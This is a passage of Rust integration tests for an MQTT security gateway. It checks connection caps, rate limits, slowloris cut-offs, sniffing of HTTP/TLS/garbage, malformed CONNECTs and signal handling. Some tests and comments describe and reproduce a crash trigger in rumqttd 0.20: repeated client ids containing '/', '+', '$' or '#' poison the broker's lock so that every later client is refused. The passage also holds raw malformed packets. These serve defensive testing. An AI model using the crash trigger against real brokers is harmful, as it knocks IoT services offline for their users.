        held.push(connect_from("127.0.0.2", gw.metrics).await);
    }
    assert!(reset_at_accept("127.0.0.2", gw.metrics).await);
    assert_eq!(gw.metric(PER_NETWORK).await, Some(1.0));
    assert_eq!(gw.metric(OVER_CAP).await, Some(0.0));

    // The scrapes' connections closed on the endpoint's side too (they hold places
    // until then), three more addresses take their four each, sixteen in all, and a
    // seventeenth connection is over the endpoint's cap.
    wait_connections(gw.pid(), 4).await;
    for ip in ["127.0.0.3", "127.0.0.4", "127.0.0.5"] {
        for _ in 0..4 {
            held.push(connect_from(ip, gw.metrics).await);
        }
    }
    assert!(reset_at_accept("127.0.0.6", gw.metrics).await);
    drop(held);
    wait_connections(gw.pid(), 0).await;
    assert_eq!(gw.metric(OVER_CAP).await, Some(1.0));
    assert_eq!(gw.metric(PER_NETWORK).await, Some(1.0));
}

/// Waits (bounded) until the gateway `pid` has `n` TCP connections open
/// ([`descriptors`]).
async fn wait_connections(pid: u32, n: usize) {
    let deadline = Instant::now() + WAIT;
    loop {
        let connections = descriptors(pid).1;
        if connections == n {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "{connections} TCP connections open, not {n}, after {WAIT:?}"
        );
        sleep(Duration::from_millis(20)).await;
    }
}

/// The numbers of the descriptors `pid` has open, and how many of them are TCP
/// connections (any state but listening, a closing one too), by
/// `/proc/<pid>/net/tcp{,6}`.
fn descriptors(pid: u32) -> (Vec<u32>, usize) {
    let mut open = Vec::new();
    let mut sockets = Vec::new();
    for entry in std::fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .flatten()
    {
        let Ok(n) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        open.push(n);
        // A descriptor closed meanwhile has no link left: it is not open.
        if let Ok(link) = std::fs::read_link(entry.path()) {
            let link = link.to_string_lossy().into_owned();
            if let Some(inode) = link
                .strip_prefix("socket:[")
                .and_then(|l| l.strip_suffix(']'))
            {
                sockets.push(inode.to_owned());
            }
        }
    }
    let mut connections = 0;
    for table in ["tcp", "tcp6"] {
        let text = std::fs::read_to_string(format!("/proc/{pid}/net/{table}")).unwrap_or_default();
        for line in text.lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            // st (0A: LISTEN) is the fourth field, the inode the tenth.
            if fields.len() > 9 && fields[3] != "0A" && sockets.iter().any(|s| s == fields[9]) {
                connections += 1;
            }
        }
    }
    (open, connections)
}

#[tokio::test]
async fn embedded_broker_carries_mqtt_3_1_1_at_every_qos_and_is_ready() {
    let gw = Gateway::start("embedded", "", &[]).await;
    assert_eq!(http_get(gw.metrics, "/healthz").await.unwrap().0, 200);
    let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
    assert_eq!((status, body.as_str()), (200, "ready\n"));

    let mut sub = Client::v311(gw.mqtt, "sub-311").await;
    let mut publ = Client::v311(gw.mqtt, "pub-311").await;
    pub_sub_all_qos(&mut sub, &mut publ, "gateway/v311", false).await;

    gw.wait_metric("aegis_sniff_total{protocol=\"mqtt\"}", 2.0)
        .await;
    let log = gw.log();
    assert!(log.contains("mqtt-gateway listening"), "{log}");
    // A trial broker, and the log says so.
    assert!(
        log.contains("WARN") && log.contains("is for trying the gateway, not for production"),
        "{log}"
    );
    // rumqttd's errors are on, but not those it logs for each readiness probe (a
    // connection closed before its CONNECT).
    assert!(
        !log.contains("Error while handling MQTT connect packet"),
        "{log}"
    );

    // rumqttd speaks 3.1.1 only: the gateway answers other versions itself.
    let v5: &[u8] = &[
        0x10, 0x0e, 0, 4, b'M', b'Q', b'T', b'T', 5, 0x02, 0, 60, 0x00, 0, 1, b'a',
    ];
    let v31: &[u8] = &[
        0x10, 0x0f, 0, 6, b'M', b'Q', b'I', b's', b'd', b'p', 3, 0x02, 0, 60, 0, 1, b'b',
    ];
    // The MQTT layer answers, so the sniffer being off changes nothing.
    let unsniffed = Gateway::start("embedded-unsniffed", "[sniff]\nenabled = false\n", &[]).await;
    for gw in [&gw, &unsniffed] {
        for (connect, connack) in [(v5, vec![0x00, 0x84, 0x00]), (v31, vec![0x00, 0x01])] {
            let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
            s.write_all(connect).await.unwrap();
            let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
            assert_eq!(answer, (0x20, connack));
            assert!(closed_silently(&mut s).await);
        }
        gw.wait_metric(
            "aegis_rejections_total{layer=\"mqtt\",reason=\"unsupported_version\"}",
            2.0,
        )
        .await;
    }
}

/// rumqttd 0.20's router refuses a client id with `+`, `$`, `#` or `/`, and that
/// refusal left a stale entry in its table of will handlers: the next CONNECT with the
/// same id panicked on it while holding the table's lock, which poisoned it, and every
/// later CONNECT of any client panicked too (the gateway answering each "server
/// unavailable", for good). With the embedded broker the gateway refuses those ids
/// itself (CONNACK 0x02, identifier rejected), whatever `mqtt.client_id_chars` allows,
/// and the broker keeps serving.
#[tokio::test]
async fn client_ids_the_embedded_broker_refuses_are_refused_by_the_gateway() {
    for chars in ["ascii_graphic", "any"] {
        let config = format!("[mqtt]\nclient_id_chars = \"{chars}\"\n");
        let gw = Gateway::start(&format!("embedded-ids-{chars}"), &config, &[]).await;
        // Twice the same id: the second CONNECT was the one that panicked.
        let mut answers = Vec::new();
        for id in ["x/y", "x/y", "a+b", "$SYS", "#"] {
            let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
            s.write_all(&connect_311(id)).await.unwrap();
            let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap();
            answers.push((id, answer.ok()));
        }
        // A well-behaved client is served after them (it got "server unavailable" from
        // the gateway, for good, once rumqttd's lock was poisoned).
        assert!(
            mqtt_session("127.0.0.1", gw.mqtt, "well-behaved")
                .await
                .is_some(),
            "{chars}: a client with a plain id is refused after {answers:?}:\n{}",
            gw.log()
        );
        for (id, answer) in answers {
            assert_eq!(
                answer,
                Some((0x20, vec![0x00, 0x02])),
                "{chars}: client id {id:?}"
            );
        }
        gw.wait_metric(
            "aegis_rejections_total{layer=\"mqtt\",reason=\"client_id\"}",
            5.0,
        )
        .await;
        // The broker still serves: a client connects, and a message reaches a subscriber.
        let mut sub = Client::v311(gw.mqtt, "sub-after").await;
        let publ = Client::v311(gw.mqtt, "pub-after").await;
        let _ = (sub.subscribe)("after/ids", 1).await;
        sub.expect("SUBACK", |e| matches!(e, Ev::SubAck).then_some(()))
            .await;
        let _ = (publ.publish)("after/ids", 1, b"still here".to_vec()).await;
        let got = sub
            .expect("PUBLISH", |e| match e {
                Ev::Publish(m) => Some(m),
                _ => None,
            })
            .await;
        assert_eq!(
            (got.0.as_str(), got.2.as_slice()),
            ("after/ids", &b"still here"[..])
        );
        assert_eq!(http_get(gw.metrics, "/readyz").await.unwrap().0, 200);
        assert!(!gw.log().contains("panicked"), "{}", gw.log());
    }
}

/// `[mqtt] enabled = false` in front of the embedded broker: nothing checks client ids
/// then, so the combination, still accepted (a plain TCP proxy in front of it, which
/// other tests use), is warned about at start-up and in `--check`'s output; not with
/// the MQTT layer on.
#[tokio::test]
async fn the_embedded_broker_without_the_mqtt_layer_is_warned_about() {
    const WARNING: &str = "nothing checks client ids";
    let off = "[mqtt]\nenabled = false\n[slowloris]\nhandshake = \"0s\"\n";
    let gw = Gateway::start("embedded-unchecked-ids", off, &[]).await;
    gw.wait_log("mqtt-gateway listening").await;
    let log = gw.log();
    assert!(
        log.lines()
            .any(|l| l.contains("WARN") && l.contains(WARNING)),
        "{log}"
    );
    let (code, out) = check_config("embedded-unchecked-ids", off);
    assert_eq!(code, Some(0), "{out}");
    assert!(
        out.lines()
            .any(|l| l.starts_with("enabled = false  # warning: ") && l.contains(WARNING)),
        "{out}"
    );
    let (code, out) = check_config("embedded-checked-ids", "");
    assert_eq!(code, Some(0), "{out}");
    assert!(!out.contains(WARNING), "{out}");
    let on = Gateway::start("embedded-checked-ids", "", &[]).await;
    on.wait_log("mqtt-gateway listening").await;
    assert!(!on.log().contains(WARNING), "{}", on.log());
}

/// Sends `connect` on a fresh connection and reads until the gateway closes it (bounded);
/// what it answered.
async fn answer_to(gw: SocketAddr, connect: &[u8]) -> Vec<u8> {
    let mut s = TcpStream::connect(gw).await.unwrap();
    s.write_all(connect).await.unwrap();
    let mut got = Vec::new();
    let _ = timeout(WAIT, s.read_to_end(&mut got)).await.unwrap();
    got
}

/// A panic of the embedded broker's is not silent. Driven here through the gateway
/// without the MQTT layer (nothing checks client ids then): two CONNECTs with the id
/// `x/y` poison rumqttd 0.20 (see `broker.rs`), and every later CONNECT panics in it.
/// Each panic is counted in `aegis_embedded_broker_panics_total`, `/readyz` answers 503
/// naming the embedded broker, and the panics are logged through `tracing`: with
/// `log.format = "json"` every line of stderr is still JSON, and they are logged one
/// line a second at most, the next one saying how many were left out.
#[tokio::test]
async fn a_panic_of_the_embedded_broker_makes_readyz_fail_and_is_logged_as_json() {
    const PANICS: &str = "aegis_embedded_broker_panics_total";
    const LINE: &str = "the embedded broker (rumqttd) panicked";
    let config = "[log]\nformat = \"json\"\n[limits]\nenabled = false\n\
                  [mqtt]\nenabled = false\n[slowloris]\nhandshake = \"0s\"\n";
    let gw = Gateway::start("embedded-panics", config, &[]).await;
    assert_eq!(gw.metric(PANICS).await, Some(0.0));
    assert_eq!(http_get(gw.metrics, "/readyz").await.unwrap().0, 200);

    let started = Instant::now();
    // The first is refused by rumqttd's router, the second panics, and so do the others.
    for _ in 0..2 {
        assert_eq!(answer_to(gw.mqtt, &connect_311("x/y")).await, b"");
    }
    for i in 0..20 {
        let answer = answer_to(gw.mqtt, &connect_311(&format!("plain-{i}"))).await;
        assert_eq!(answer, b"", "plain-{i}: the broker still answers");
    }
    gw.wait_metric(PANICS, 21.0).await;
    let elapsed = Instant::now().saturating_duration_since(started);
    let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("the embedded broker failed"), "{body}");

    let json_lines = |log: &str| -> Vec<serde_json::Value> {
        log.lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| {
                serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}\n{log}"))
            })
            .collect()
    };
    let panic_lines = |lines: &[serde_json::Value]| -> Vec<serde_json::Value> {
        lines
            .iter()
            .filter(|l| l["message"].as_str().is_some_and(|m| m.contains(LINE)))
            .cloned()
            .collect()
    };
    gw.wait_log(LINE).await;
    let log = gw.log();
    let logged = panic_lines(&json_lines(&log));
    // One line a second at most (and the first at once).
    let most = usize::try_from(elapsed.as_secs()).unwrap() + 1;
    assert!(
        !logged.is_empty() && logged.len() <= most,
        "{} lines for 21 panics in {elapsed:?}:\n{log}",
        logged.len()
    );
    assert_eq!(logged[0]["level"], "ERROR", "{log}");
    assert!(
        logged[0]["location"]
            .as_str()
            .is_some_and(|l| l.contains("rumqttd")),
        "{log}"
    );

    // A second later the next panic is logged, with the count of those left out.
    sleep(Duration::from_millis(1100)).await;
    assert_eq!(answer_to(gw.mqtt, &connect_311("later")).await, b"");
    gw.wait_metric(PANICS, 22.0).await;
    let deadline = Instant::now() + WAIT;
    let last = loop {
        let logged = panic_lines(&json_lines(&gw.log()));
        let total: u64 = logged.len() as u64
            + logged
                .iter()
                .map(|l| l["suppressed"].as_u64().unwrap())
                .sum::<u64>();
        if total == 22 {
            break logged.last().cloned().unwrap();
        }
        assert!(
            Instant::now() < deadline,
            "{total} panics logged or counted as suppressed, not 22:\n{}",
            gw.log()
        );
        sleep(Duration::from_millis(20)).await;
    };
    assert!(last["suppressed"].as_u64().unwrap() > 0, "{last}");
    assert_eq!(http_get(gw.metrics, "/readyz").await.unwrap().0, 503);
}

#[tokio::test]
async fn mqtt_5_and_3_1_1_through_the_gateway_to_mosquitto() {
    let broker = Mosquitto::start().await;
    let upstream = broker.addr().to_string();
    let gw = Gateway::start("mosquitto", "", &["--upstream", &upstream]).await;
    assert_eq!(http_get(gw.metrics, "/readyz").await.unwrap().0, 200);
    assert!(!gw.log().contains("for trying the gateway"), "{}", gw.log());

    let mut sub = Client::v5(gw.mqtt, "sub-v5").await;
    let mut publ = Client::v5(gw.mqtt, "pub-v5").await;
    pub_sub_all_qos(&mut sub, &mut publ, "gateway/v5", true).await;

    let mut sub = Client::v311(gw.mqtt, "sub-v311").await;
    let mut publ = Client::v311(gw.mqtt, "pub-v311").await;
    pub_sub_all_qos(&mut sub, &mut publ, "gateway/v311", true).await;
}

#[tokio::test]
async fn http_tls_and_garbage_are_refused_and_counted_under_their_own_labels() {
    let config = "[log]\nmask_client_addresses = true\n";
    let gw = Gateway::start("sniff", config, &[]).await;
    // A minimal TLS 1.2 record header and ClientHello start: enough to classify.
    let client_hello: &[u8] = &[
        0x16, 0x03, 0x01, 0x00, 0x2f, 0x01, 0x00, 0x00, 0x2b, 0x03, 0x03, 0, 0, 0, 0, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0, 0,
    ];
    let probes: [(&[u8], &str); 3] = [
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "http1"),
        (client_hello, "tls"),
        (b"\xff\xfe garbage", "unknown"),
    ];
    for (bytes, label) in probes {
        let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
        s.write_all(bytes).await.unwrap();
        assert!(
            closed_silently(&mut s).await,
            "{label}: not closed silently"
        );
        gw.wait_metric(
            &format!("aegis_rejections_total{{layer=\"sniff\",reason=\"{label}\"}}"),
            1.0,
        )
        .await;
        gw.wait_metric(&format!("aegis_sniff_total{{protocol=\"{label}\"}}"), 1.0)
            .await;
    }
    gw.wait_metric("aegis_connections_total{outcome=\"rejected\"}", 3.0)
        .await;
    // The gateway's own lines name the client by its /24 only.
    gw.wait_log("peer=127.0.0.0/24 layer=\"sniff\" reason=\"tls\"")
        .await;
    let log = gw.log();
    assert!(
        log.contains("peer=127.0.0.0/24 layer=\"sniff\" reason=\"tls\""),
        "{log}"
    );
    assert!(!log.contains("peer=127.0.0.1:"), "{log}");
    // Security events name whole addresses: with masking they stay out of the log.
    assert!(!log.contains("security event"), "{log}");
    assert!(!log.contains("client_addr="), "{log}");
}

#[tokio::test]
async fn silent_and_stalled_clients_are_cut_at_their_deadlines() {
    let config = r#"
        [slowloris]
        first_byte = "300ms"
        idle = "600ms"
        handshake = "5s"
        jitter = "0s"
        [sniff]
        timeout = "10s"
    "#;
    let gw = Gateway::start("slowloris", config, &[]).await;

    // Silent: cut at the first-byte deadline. The start is taken before the connect:
    // the gateway's clock starts after its accept, later, and a timer never fires before
    // its deadline (one monotonic clock for both processes), so the cut comes at least
    // the deadline after it; and well before the other clocks (the handshake's 5 s),
    // with room for a loaded machine.
    let start = Instant::now();
    let mut silent = TcpStream::connect(gw.mqtt).await.unwrap();
    assert!(closed_silently(&mut silent).await);
    let took = Instant::now().saturating_duration_since(start);
    assert!(
        took >= Duration::from_millis(300) && took < Duration::from_millis(2_500),
        "cut after {took:?}"
    );
    gw.wait_metric(
        "aegis_rejections_total{layer=\"slowloris\",reason=\"first_byte\"}",
        1.0,
    )
    .await;

    // One byte of a CONNECT, then nothing: cut by the idle clock, long before the
    // sniffer's 10 s. The idle clock runs from the gateway's read of the byte, after the
    // start (taken before the connect, as above).
    let start = Instant::now();
    let mut stalled = TcpStream::connect(gw.mqtt).await.unwrap();
    stalled.write_all(&[0x10]).await.unwrap();
    assert!(closed_silently(&mut stalled).await);
    let took = Instant::now().saturating_duration_since(start);
    assert!(
        took >= Duration::from_millis(600) && took < Duration::from_secs(5),
        "cut after {took:?}"
    );
    gw.wait_metric(
        "aegis_rejections_total{layer=\"slowloris\",reason=\"idle\"}",
        1.0,
    )
    .await;
}

/// `[slowloris] jitter` (50 ms by default, as `--check` shows) spreads the cuts of
/// connections opened together: each is cut up to the jitter before its deadline, never
/// after it, by its own draw. A 400 ms jitter here, so that the spread stands far above
/// what a busy machine's scheduling adds.
#[tokio::test]
async fn connections_opened_together_are_cut_spread_over_the_jitter() {
    let config = r#"
        [limits.per_ip]
        enabled = false
        [slowloris]
        first_byte = "2s"
        jitter = "400ms"
        [sniff]
        timeout = "10s"
    "#;
    let gw = Gateway::start("slowloris-jitter", config, &[]).await;
    let mut cuts = tokio::task::JoinSet::new();
    for _ in 0..40 {
        let before = Instant::now();
        let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
        let connected = Instant::now();
        cuts.spawn(async move {
            assert!(closed_silently(&mut s).await);
            let cut = Instant::now();
            // How long the connection lived, at least and at most: the gateway's clock
            // starts at its accept, after `before` and (on loopback) about `connected`.
            (
                cut.saturating_duration_since(before),
                cut.saturating_duration_since(connected),
            )
        });
    }
    let mut lived = Vec::new();
    while let Some(cut) = cuts.join_next().await {
        lived.push(cut.unwrap());
    }
    lived.sort_unstable_by_key(|l| l.1);
    // Never earlier than the deadline less the jitter...
    assert!(
        lived.iter().all(|l| l.0 >= Duration::from_millis(1600)),
        "{lived:?}"
    );
    // ...and not all at the deadline: a timer never fires early, so without the jitter
    // each connection would live about 2 s from its connect or more. Forty draws of up
    // to 400 ms, none more than 250 ms early: a chance of 7e-9.
    let (shortest, longest) = (lived[0].1, lived[lived.len() - 1].1);
    assert!(shortest <= Duration::from_millis(1800), "{lived:?}");
    assert!(
        longest - shortest >= Duration::from_millis(150),
        "{lived:?}"
    );
    gw.wait_metric(
        "aegis_rejections_total{layer=\"slowloris\",reason=\"first_byte\"}",
        40.0,
    )
    .await;
}

#[tokio::test]
async fn a_burst_from_one_address_is_limited_while_another_address_connects() {
    let config = r#"
        [limits.per_ip]
        rate = "1/m"
        burst = 3
    "#;
    let gw = Gateway::start("rate", config, &[]).await;
    let mut open = Vec::new();
    for i in 0..3 {
        let s = mqtt_session("127.0.0.1", gw.mqtt, &format!("burst-{i}")).await;
        open.push(s.unwrap_or_else(|| panic!("connection {i} within the burst refused")));
    }
    let mut over = connect_from("127.0.0.1", gw.mqtt).await;
    let _ = over.write_all(&connect_311("burst-over")).await;
    assert!(
        closed_silently(&mut over).await,
        "over the burst, not refused"
    );
    gw.wait_metric(
        "aegis_rejections_total{layer=\"rate_limit\",reason=\"per_client\"}",
        1.0,
    )
    .await;

    // Another source address has its own budget.
    let other = mqtt_session("127.0.0.2", gw.mqtt, "other-address").await;
    assert!(other.is_some(), "127.0.0.2 was refused");
}

#[tokio::test]
async fn malformed_connects_get_the_answer_the_spec_gives() {
    // Refused CONNECTs never reach the broker; any upstream will do, and a non-embedded
    // one takes every version (the embedded mode answers MQTT 5 with 0x84: that broker
    // does not speak it).
    let (_held, nowhere) = dead_port();
    let gw = Gateway::start("malformed", "", &["--upstream", &nowhere.to_string()]).await;

    // 3.1.1, reserved flag bit set: [MQTT-3.1.2-3] close without a CONNACK.
    let mut bad = connect_311("bad");
    bad[9] |= 0x01;
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&bad).await.unwrap();
    assert!(closed_silently(&mut s).await);

    // An unsupported protocol level: CONNACK 0x01 [MQTT-3.1.2-2], then close.
    let mut v9 = connect_311("v9");
    v9[8] = 9;
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&v9).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(answer, (0x20, vec![0x00, 0x01]));
    assert!(closed_silently(&mut s).await);

    // MQTT 5, a CONNECT whose properties run past the packet: CONNACK 0x81.
    let v5_bad = [
        0x10, 0x0e, 0x00, 0x04, b'M', b'Q', b'T', b'T', 0x05, 0x02, 0x00, 0x3c, 0x09, 0x00, 0x00,
        0x00,
    ];
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&v5_bad).await.unwrap();
    let (first, body) = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!((first, body[1]), (0x20, 0x81), "{body:?}");

    gw.wait_metric(
        "aegis_rejections_total{layer=\"mqtt\",reason=\"malformed\"}",
        2.0,
    )
    .await;
    gw.wait_metric(
        "aegis_rejections_total{layer=\"mqtt\",reason=\"unsupported_version\"}",
        1.0,
    )
    .await;
}

/// A CONNECT string with a control character ([MQTT-1.5.3] / [MQTT-1.5.4]: a client
/// SHOULD NOT send one, a receiver MAY close) is refused by the gateway as malformed,
/// with the answer a malformed CONNECT gets (3.1.1: the close without a CONNACK; 5.0:
/// CONNACK 0x81), and counted under `malformed`. It never reaches mosquitto, which would
/// close for it before any CONNACK, and the gateway would then answer "server
/// unavailable" and count `upstream_closed`: a broker-outage signal any client could
/// raise, and one that never counts toward a ban.
#[tokio::test]
async fn control_characters_in_connect_strings_are_refused_as_malformed() {
    let broker = Mosquitto::start_logging_everything().await;
    let upstream = broker.addr().to_string();
    let gw = Gateway::start("ctrlchar", "", &["--upstream", &upstream]).await;

    // 3.1.1, client id "c1", user name "u\u{1}".
    let user = [
        0x10, 0x12, 0x00, 0x04, b'M', b'Q', b'T', b'T', 0x04, 0x82, 0x00, 0x3c, 0x00, 0x02, b'c',
        b'1', 0x00, 0x02, b'u', 0x01,
    ];
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&user).await.unwrap();
    assert!(
        closed_silently(&mut s).await,
        "3.1.1: closed without a CONNACK"
    );

    // 5.0, client id "c1", a User Property "a\u{1}" = "b".
    let property = [
        0x10, 0x17, 0x00, 0x04, b'M', b'Q', b'T', b'T', 0x05, 0x02, 0x00, 0x3c, 0x08, 0x26, 0x00,
        0x02, b'a', 0x01, 0x00, 0x01, b'b', 0x00, 0x02, b'c', b'1',
    ];
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&property).await.unwrap();
    let (first, body) = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(
        (first, body),
        (0x20, vec![0x00, 0x81, 0x00]),
        "CONNACK 0x81"
    );
    assert!(closed_silently(&mut s).await);

    gw.wait_metric(
        "aegis_rejections_total{layer=\"mqtt\",reason=\"malformed\"}",
        2.0,
    )
    .await;
    // A valid CONNECT afterwards: the first connection the broker ever saw.
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&connect_311("afterwards")).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(answer, (0x20, vec![0x00, 0x00]));
    broker.wait_for_log(" as afterwards ").await;
    assert_eq!(
        broker.log().matches("New connection from").count(),
        1,
        "only the valid client reached the broker:\n{}",
        broker.log()
    );
    let upstream_closed = "aegis_rejections_total{layer=\"mqtt\",reason=\"upstream_closed\"}";
    assert_eq!(gw.metric(upstream_closed).await.unwrap_or(0.0), 0.0);
}

#[tokio::test]
async fn sigterm_drains_open_sessions_and_exits_0() {
    let mut gw = Gateway::start("drain", "", &[]).await;
    let mut session = mqtt_session("127.0.0.1", gw.mqtt, "draining")
        .await
        .unwrap();

    gw.terminate();
    // The gateway says it is going away, then stops accepting.
    let deadline = Instant::now() + WAIT;
    while http_get(gw.metrics, "/readyz").await.map(|r| r.0).ok() != Some(503) {
        assert!(Instant::now() < deadline, "/readyz never said 503");
        sleep(Duration::from_millis(25)).await;
    }
    let deadline = Instant::now() + WAIT;
    while TcpStream::connect(gw.mqtt).await.is_ok() {
        assert!(Instant::now() < deadline, "still accepting after SIGTERM");
        sleep(Duration::from_millis(25)).await;
    }
    // The open session still works during the drain: PINGREQ / PINGRESP.
    session.write_all(&[0xC0, 0x00]).await.unwrap();
    let pong = timeout(WAIT, read_packet(&mut session))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(pong, (0xD0, vec![]));
    // It ends (DISCONNECT), and with it the drain.
    session.write_all(&[0xE0, 0x00]).await.unwrap();
    drop(session);
    let status = gw.exit_status().await;
    assert_eq!(status.code(), Some(0), "{}", gw.log());
    assert!(gw.log().contains("drained=true"), "{}", gw.log());
}

/// SIGHUP, the "reload" signal of many daemons, neither reloads nor stops the gateway:
/// it says so at warn and keeps serving, the open session and new ones. Before, it had
/// no handler, and its default action killed the process: no drain, sessions cut, and
/// the bans since the last `bans_save_every` write lost. SIGINT then still drains.
#[tokio::test]
async fn sighup_is_logged_and_the_gateway_keeps_serving() {
    let mut gw = Gateway::start("sighup", "", &[]).await;
    let mut session = mqtt_session("127.0.0.1", gw.mqtt, "before-hup")
        .await
        .unwrap();
    gw.signal("HUP");
    gw.wait_log("SIGHUP").await;
    let log = gw.log();
    let line = log.lines().find(|l| l.contains("SIGHUP")).unwrap();
    assert!(
        line.contains("WARN") && line.contains("no reload") && line.contains("restart"),
        "{line}"
    );
    assert!(gw.running(), "SIGHUP ended the gateway:\n{log}");
    // The open session still works (PINGREQ / PINGRESP), and a new one is served.
    session.write_all(&[0xC0, 0x00]).await.unwrap();
    let pong = timeout(WAIT, read_packet(&mut session))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(pong, (0xD0, vec![]));
    let mut after = mqtt_session("127.0.0.1", gw.mqtt, "after-hup")
        .await
        .expect("a session after SIGHUP");
    for s in [&mut session, &mut after] {
        s.write_all(&[0xE0, 0x00]).await.unwrap();
    }
    drop((session, after));
    gw.signal("INT");
    let status = gw.exit_status().await;
    assert_eq!(status.code(), Some(0), "{}", gw.log());
    assert!(gw.log().contains("drained=true"), "{}", gw.log());
}

#[tokio::test]
async fn a_drain_that_runs_out_of_time_exits_1() {
    let config = r#"
        [server]
        drain_timeout = "300ms"
    "#;
    let mut gw = Gateway::start("abort", config, &[]).await;
    let _session = mqtt_session("127.0.0.1", gw.mqtt, "stays").await.unwrap();
    gw.terminate();
    let status = gw.exit_status().await;
    assert_eq!(status.code(), Some(1), "{}", gw.log());
}

/// A second SIGINT during a drain held open by a connected client (the default drain
/// lasts 30 s) ends the process at once, with status 1, and says so in the log.
#[tokio::test]
async fn a_second_signal_during_the_drain_exits_at_once_with_status_1() {
    let mut gw = Gateway::start("second-signal", "", &[]).await;
    let _session = mqtt_session("127.0.0.1", gw.mqtt, "holds-the-drain")
        .await
        .unwrap();
    gw.signal("INT");
    gw.wait_log("stopping: refusing new connections").await;
    sleep(Duration::from_millis(200)).await;
    assert!(gw.running(), "the drain ended early:\n{}", gw.log());
    let second = Instant::now();
    gw.signal("INT");
    let status = gw.exit_status().await;
    let took = Instant::now().saturating_duration_since(second);
    assert!(took < Duration::from_secs(5), "exited only after {took:?}");
    assert_eq!(status.code(), Some(1), "{}", gw.log());
    assert!(gw.log().contains("second signal"), "{}", gw.log());
}

/// With `server.runtime = "per-core"`, a runtime that never reports its drain (its thread
/// stalled) does not hold the stop past the deadline: the wait ends there, the runtime
/// counts as not drained and is named, and the reports of the others (before it, after
/// it, and one that ended without a report) are counted. When all report in time, the
/// wait ends with the last report.
#[tokio::test(start_paused = true)]
async fn a_stalled_runtime_does_not_hold_the_stop_past_the_drain_deadline() {
    use tokio::sync::oneshot;
    let start = Instant::now();
    let deadline = start + Duration::from_secs(5);
    let (first, first_rx) = oneshot::channel();
    first.send((true, 0)).unwrap();
    // Never sends, and is not dropped: the runtime's thread is stalled.
    let (_stalled, stalled_rx) = oneshot::channel::<(bool, usize)>();
    let (later, later_rx) = oneshot::channel();
    tokio::spawn(async move {
        sleep(Duration::from_secs(1)).await;
        let _ = later.send((false, 3));
    });
    let (panicked, panicked_rx) = oneshot::channel::<(bool, usize)>();
    drop(panicked);
    let reports = [first_rx, stalled_rx, later_rx, panicked_rx];
    // Bounded here too: unbounded, the wait would never end (the clock is paused).
    let gathered = timeout(
        Duration::from_secs(600),
        drain_reports::gather((true, 1), reports, deadline),
    )
    .await
    .expect("the wait for the drain reports outlived its deadline by 10 minutes");
    assert_eq!(Instant::now() - start, Duration::from_secs(5));
    assert_eq!(
        gathered,
        drain_reports::Gathered {
            drained: false,
            aborted: 4,
            late: vec![2],
        }
    );

    let start = Instant::now();
    let deadline = start + Duration::from_secs(5);
    let (first, first_rx) = oneshot::channel();
    first.send((true, 0)).unwrap();
    let (later, later_rx) = oneshot::channel();
    tokio::spawn(async move {
        sleep(Duration::from_secs(1)).await;
        let _ = later.send((true, 0));
    });
    let gathered = drain_reports::gather((true, 0), [first_rx, later_rx], deadline).await;
    assert_eq!(Instant::now() - start, Duration::from_secs(1));
    assert_eq!(
        gathered,
        drain_reports::Gathered {
            drained: true,
            aborted: 0,
            late: vec![],
        }
    );
}

/// Whether a thread of process `pid` is in a `write` to its stderr (fd 2), which it is
/// only while the pipe is full: `/proc/PID/task/TID/syscall` starts with the syscall's
/// number (x86-64 and aarch64 differ) and its first argument.
fn blocked_writing_stderr(pid: u32) -> bool {
    let write = if cfg!(target_arch = "aarch64") {
        "64"
    } else {
        "1"
    };
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return false;
    };
    tasks.flatten().any(|task| {
        std::fs::read_to_string(task.path().join("syscall"))
            .is_ok_and(|s| s.starts_with(&format!("{write} 0x2 ")))
    })
}

/// Starts the gateway at debug level with its stderr a pipe the test never reads.
async fn gateway_with_an_unread_stderr(name: &str, config: &str) -> Gateway {
    let launch = Launch {
        rust_log: Some("debug"),
        unread_stderr: true,
        ..Launch::default()
    };
    Gateway::start_with(name, config, &[], launch).await
}

/// Opens and closes sessions (each logged) until the gateway's unread stderr is full: a
/// thread of the gateway's is blocked writing to it.
async fn fill_stderr(gw: &Gateway) {
    let deadline = Instant::now() + WAIT;
    let mut n = 0;
    while !blocked_writing_stderr(gw.pid()) {
        assert!(
            Instant::now() < deadline,
            "stderr not full after {n} sessions in {WAIT:?}"
        );
        // A gateway blocked on its stderr stops answering: the pipe is full then.
        let session = timeout(
            Duration::from_millis(500),
            mqtt_session("127.0.0.1", gw.mqtt, &format!("filler-{n}")),
        )
        .await;
        if let Ok(Some(mut s)) = session {
            let _ = s.write_all(&[0xE0, 0x00]).await;
        } else {
            sleep(Duration::from_millis(25)).await;
        }
